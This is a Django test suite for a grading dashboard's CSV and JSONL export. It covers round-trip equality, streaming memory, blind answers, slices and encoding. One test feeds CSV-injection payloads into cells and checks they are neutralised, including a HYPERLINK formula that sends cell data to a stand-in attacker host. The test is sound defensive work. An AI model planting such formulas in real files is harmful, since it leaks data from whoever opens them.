"""The export: reviews with their whole identity, state and decision, filtered like the page; CSV and JSONL read
back equal to the rows; streamed from a server-side cursor, so memory stays flat as the row count grows."""

import csv
import io
import json
import tracemalloc
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.db.models import DateField
from django.db.models.functions import TruncWeek
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from grading.conversations.grader import conversation_grade
from grading.core.weeks import iso_week
from grading.drafts.gate import draft_grade
from grading.models import Answer, CriteriaVersion, Draft, ItemKind, Review, SlotsFor
from grading.reviews.services import PersonVerdict, answer_record, decision_record
from grading.reviews.versions import criteria_active
from reviewer.dashboards import export
from reviewer.models import Role
from tests.builders.conversations import llm_judge, upsert, verdicts_reply
from tests.builders.drafts import CLEAN_BODY, draft_reply, llm_draft_judge, save_draft, setup_org_memory
from tests.builders.people import make_person
from tests.builders.queue_items import bulk_draft_items, draft_item
from tests.builders.releases import build_releases
from tests.builders.world import MONDAY, build_world, conversation_payload, world_scope

pytestmark = pytest.mark.django_db


def _get(client, org, **query):
    response = client.get(reverse("dashboard_export"), {"org": org.slug, **world_scope(org).as_query(), **query})
    assert response.status_code == 200 and response.streaming
    return b"".join(response.streaming_content).decode()


def test_the_csv_and_jsonl_exports_read_back_equal_to_the_reviews(org, fake_llm, operator, client_for, stakeholder):
    world = build_world(org, fake_llm, operator)
    client = client_for(stakeholder)
    rows = list(csv.DictReader(io.StringIO(_get(client, org, format="csv"))))
    lines = [json.loads(line) for line in _get(client, org, format="jsonl").splitlines()]
    counting = Review.objects.counting().filter(org=org, kind="conversation").order_by("pk")
    assert [int(row["review_id"]) for row in rows] == [line["review_id"] for line in lines] == [r.pk for r in counting]
    for review, row, line in zip(counting.select_related("criteria_version"), rows, lines, strict=True):
        assert row["fingerprint"] == line["fingerprint"] == review.fingerprint
        assert json.loads(row["judge"]) == line["judge"] == review.judge
        assert row["criteria_version"] == str(line["criteria_version"]) == str(review.criteria_version.number)
        grounded = (review.checks.get("grounded") or {}).get("verdict")
        assert line["check_grounded"] == grounded and row["check_grounded"] == (grounded or "")
        assert line["state"] == row["state"] and line["state"] in ("current", "waiting", "decided")
        assert line["finished_at"] == row["finished_at"] == review.finished_at.isoformat()
        assert row["week"] == line["week"] == iso_week(review.week)  # as the page names it: 2026-W49
    decided = {line["item"]: line for line in lines if line["decision"]}
    assert set(decided) == {"c1", "c3", "c4"}
    assert decided["c4"]["decided_by"] == operator.username and decided["c4"]["decision_checks"]["grounded"] == "fail"
    assert world.reviews["c7"].pk not in [line["review_id"] for line in lines]  # stale: not what the page counts
    labelled = {line["item"]: line["labels"] for line in lines if line["labels"]}
    assert labelled == {
        "c2": [{"labeller": "ann", "check": "pass_fail", "verdict": "fail"}],
        "c5": [{"labeller": "ann", "check": "grounded", "verdict": "fail"}],
    }
    assert {row["item"]: json.loads(row["labels"]) for row in rows if row["labels"]} == labelled
    drafts = [json.loads(line) for line in _get(client, org, format="jsonl", kind="draft").splitlines()]
    assert {line["item"] for line in drafts} == {"d-pass", "d-fail", "d-band", "d-repaired", "d-error"}


def _peak_bytes(client, org) -> int:
    response = client.get(
        reverse("dashboard_export"), {"org": org.slug, **world_scope(org).as_query(), "kind": "draft"}
    )
    tracemalloc.start()
    rows = sum(chunk.count(b"\n") for chunk in response.streaming_content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return rows, peak


def test_the_exports_memory_stays_flat_as_the_rows_grow(org, client_for, stakeholder, monkeypatch):
    monkeypatch.setattr(export, "CHUNK", 100)
    client = client_for(stakeholder)
    bulk_draft_items(org, 300)
    Review.objects.update(week=TruncWeek("finished_at", output_field=DateField()))  # as review_record files them
    small_rows, small = _peak_bytes(client, org)
    Draft.objects.all().delete()
    bulk_draft_items(org, 3000)
    Review.objects.update(week=TruncWeek("finished_at", output_field=DateField()))
    big_rows, big = _peak_bytes(client, org)
    assert (small_rows, big_rows) == (301, 3001)
    assert big < small * 1.5, (small, big)


def test_it_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula_and_keeps_its_numbers(
    org, fake_llm, operator, client_for, stakeholder
):
    """Pipelines choose ids and application names, operators write notes: a cell of theirs that starts with = + - @
    TAB or CR goes out with a quote in front (OWASP), the rest of it intact; the numbers we write stay numbers."""
    conversation = upsert(org, conversation_payload('=HYPERLINK("evil.example?"&A1,"x")', "@SUM(A1)", MONDAY))
    fake_llm.script(verdicts_reply(["m1", "m2"], usable="unknown"))  # unsure: a person decides, with a note
    review = conversation_grade(conversation_id=conversation.conversation.pk, judge=llm_judge(fake_llm))
    note = "\t=1+1\r\n-2+3; +4"
    checks = {"grounded": "pass", "complete": "pass", "usable": "pass"}
    decision_record(
        review_id=review.pk, decided_by=operator, decided_at=MONDAY, verdict=PersonVerdict(checks=checks, note=note)
    )
    setup_org_memory(org)
    draft = save_draft(org, CLEAN_BODY, external_id="-1+cmd")
    fake_llm.script(draft_reply(8, writing=5))
    draft_review = draft_grade(draft_id=draft.pk, judge=llm_draft_judge(fake_llm))
    client = client_for(stakeholder)

    [row] = csv.DictReader(io.StringIO(_get(client, org, format="csv")))
    assert row["item"] == '\'=HYPERLINK("evil.example?"&A1,"x")'
    assert row["application"] == "'@SUM(A1)"
    assert row["decision_note"] == "'" + note
    assert row["review_id"] == str(review.pk) and row["prompt_tokens"] == "100"
    [draft_row] = csv.DictReader(io.StringIO(_get(client, org, format="csv", kind="draft")))
    assert draft_row["item"] == "'-1+cmd"
    assert float(draft_row["score"]) == draft_review.score
    [line] = _get(client, org, format="jsonl").splitlines()
    assert json.loads(line)["item"] == '=HYPERLINK("evil.example?"&A1,"x")'  # JSONL is data, not a sheet


def test_it_writes_a_negative_number_of_ours_as_a_number_and_text_that_looks_like_one_as_text():
    columns = export.columns_for(("grounded",))
    row = [None] * len(columns)
    row[columns.index("score")] = -0.5
    row[columns.index("item")] = "-0.5"
    row[columns.index("review_id")] = 7
    lines = list(export.as_csv([tuple(row)], columns))
    [cells] = csv.reader(io.StringIO(lines[1]), quoting=csv.QUOTE_NONNUMERIC)
    assert cells[columns.index("score")] == -0.5
    assert cells[columns.index("item")] == "'-0.5"
    assert cells[columns.index("review_id")] == 7


def test_it_carries_each_persons_answer_once_every_place_is_answered_and_none_while_places_are_open(
    org, client_for, stakeholder, monkeypatch
):
    """Answers are blind until every place on the item is answered: an item decided by agreeing answers and one
    whose answers differ (waiting for its adjudication) export them; one with a place still open exports none."""
    criteria_active(org=org, kind=ItemKind.DRAFT)
    CriteriaVersion.objects.filter(org=org, kind=ItemKind.DRAFT, is_active=True).update(
        slots=2, slots_for=SlotsFor.AUDIT
    )
    agreed, split, waiting = (draft_item(org, slug, audit=True) for slug in ("d-agreed", "d-split", "d-open"))
    Review.objects.update(week=TruncWeek("finished_at", output_field=DateField()))
    ann, bo = (make_person(name, org, Role.OPERATOR) for name in ("ann", "bo"))
    at = datetime(2026, 11, 24, 9, tzinfo=UTC)
    for review, person, outcome, note in (
        (agreed, ann, "approve", ""),
        (agreed, bo, "approve", "Reads well."),
        (split, ann, "approve", ""),
        (split, bo, "reject", "=1+1 the refund window is wrong"),
        (waiting, ann, "reject", "ANN: still blind"),
    ):
        answer_record(
            review_id=review.pk, person=person, answered_at=at, verdict=PersonVerdict(outcome=outcome, note=note)
        )
    # Two chunks of rows: the answers read with the rows in their one query, and for each chunk blind review's count
    # of the waiting items' answers once.
    monkeypatch.setattr(export, "CHUNK", 2)
    client = client_for(stakeholder)

    with CaptureQueriesContext(connection) as queries:
        lines = {
            line["item"]: line for line in map(json.loads, _get(client, org, format="jsonl", kind="draft").splitlines())
        }
    assert len([q for q in queries.captured_queries if 'FROM "grading_answer"' in q["sql"]]) == 1 + 2

    def given(person, outcome, note):
        return {"person": person, "outcome": outcome, "checks": {}, "note": note, "answered_at": at.isoformat()}

    assert lines["d-agreed"]["decision"] == "approve"
    assert lines["d-agreed"]["answers"] == [given("ann", "approve", ""), given("bo", "approve", "Reads well.")]
    assert lines["d-split"]["decision"] is None
    assert lines["d-split"]["answers"] == [
        given("ann", "approve", ""),
        given("bo", "reject", "=1+1 the refund window is wrong"),
    ]
    assert lines["d-open"]["answers"] is None
    text = _get(client, org, format="csv", kind="draft")
    assert "still blind" not in text
    rows = {row["item"]: row for row in csv.DictReader(io.StringIO(text))}
    assert json.loads(rows["d-split"]["answers"]) == lines["d-split"]["answers"]
    assert rows["d-open"]["answers"] == ""


def test_each_row_carries_the_dimension_values_it_was_filed_under_and_a_slice_filters_the_rows(
    org, fake_llm, client_for, stakeholder
):
    releases = build_releases(org, fake_llm)
    client = client_for(stakeholder)
    query = {"from": "2026-W48", "to": "2026-W48", "format": "jsonl"}

    def exported(**more) -> dict[int, dict]:
        response = client.get(reverse("dashboard_export"), {"org": org.slug, **query, **more})
        lines = b"".join(response.streaming_content).decode().splitlines()
        return {row["review_id"]: row["slice"] for row in map(json.loads, lines)}

    assert exported() == {review.pk: review.slice for review in releases.reviews}
    newer = exported(slice="release=2.4")
    assert newer == {review.pk: review.slice for review in releases.reviews if review.slice["release"] == "2.4"}
    assert newer and all(filed["environment"] in ("prod", "staging") for filed in newer.values())
    [row] = list(
        csv.DictReader(
            io.StringIO(
                _get(
                    client, org, format="csv", **{"from": "2026-W48", "to": "2026-W48", "slice": "environment=staging"}
                )
            )
        )
    )[:1]
    assert json.loads(row["slice"])["environment"] == "staging"


def test_kind_any_exports_the_counting_reviews_of_both_kinds(org, fake_llm, operator, client_for, stakeholder):
    build_world(org, fake_llm, operator)
    client = client_for(stakeholder)
    both = [json.loads(line) for line in _get(client, org, format="jsonl", kind="any").splitlines()]
    each = [
        json.loads(line)
        for kind in ItemKind.values
        for line in _get(client, org, format="jsonl", kind=kind).splitlines()
    ]
    assert {line["kind"] for line in both} == {"conversation", "draft"}
    assert sorted(line["review_id"] for line in both) == sorted(line["review_id"] for line in each)


def test_it_writes_each_time_and_answer_as_python_writes_them_whatever_their_fractions_and_text(
    org, client_for, stakeholder
):
    """Times and answers come from the database as text and are composed for each format: a time reads as its
    isoformat() (fractions of a second with trailing zeros, or none), the answers as json.dumps writes them (sorted
    keys in the CSV), notes with line breaks, quotes, escapes and characters beyond ASCII, and checks of any value."""
    criteria_active(org=org, kind=ItemKind.DRAFT)
    CriteriaVersion.objects.filter(org=org, kind=ItemKind.DRAFT, is_active=True).update(
        slots=2, slots_for=SlotsFor.AUDIT
    )
    review = draft_item(org, "d-odd", audit=True)
    ann, bo = (make_person(name, org, Role.OPERATOR) for name in ("ann", "bo"))
    notes = {ann: 'line\nbreak "quoted" \\ café \x01 \u2028 😀', bo: "=1+1"}
    for second, (person, note) in enumerate(notes.items()):
        at = datetime(2026, 11, 24, 9, 0, second, tzinfo=UTC)
        answer_record(
            review_id=review.pk, person=person, answered_at=at, verdict=PersonVerdict(outcome="approve", note=note)
        )
    odd_checks = {"writing": 4, "aeo": 0.00001, "nested": {"b": True, "a": None}}
    Answer.objects.filter(review=review, person=ann).update(checks=odd_checks)
    Review.objects.filter(pk=review.pk).update(
        week=TruncWeek("finished_at", output_field=DateField()),
        started_at=datetime(2026, 11, 24, 8, 59, 58, 120000, tzinfo=UTC),
        finished_at=datetime(2026, 11, 24, 8, 59, 59, 1, tzinfo=UTC),
        routed_at=datetime(2026, 11, 24, 9, tzinfo=UTC),
    )
    review.refresh_from_db()
    client = client_for(stakeholder)

    [line] = _get(client, org, format="jsonl", kind="draft").removesuffix("\n").split("\n")  # U+2028 is no line end
    [row] = csv.DictReader(io.StringIO(_get(client, org, format="csv", kind="draft")))
    answers = [
        {"note": notes[ann], "checks": {"aeo": 0.00001, "nested": {"a": None, "b": True}, "writing": 4},
         "person": "ann", "outcome": "approve", "answered_at": "2026-11-24T09:00:00+00:00"},
        {"note": notes[bo], "checks": {}, "person": "bo", "outcome": "approve",
         "answered_at": "2026-11-24T09:00:01+00:00"},
    ]  # fmt: skip
    assert '"answers": ' + json.dumps(answers, ensure_ascii=False) + "}" in line  # in the order jsonb keeps keys
    assert row["answers"] == json.dumps(answers, sort_keys=True, ensure_ascii=False)
    exported = json.loads(line)
    for name in ("started_at", "finished_at", "routed_at"):
        assert row[name] == exported[name] == getattr(review, name).isoformat()
    assert row["due_at"] == "" and exported["due_at"] is None
    assert exported["decided_at"] == row["decided_at"] == review.decision.decided_at.isoformat()
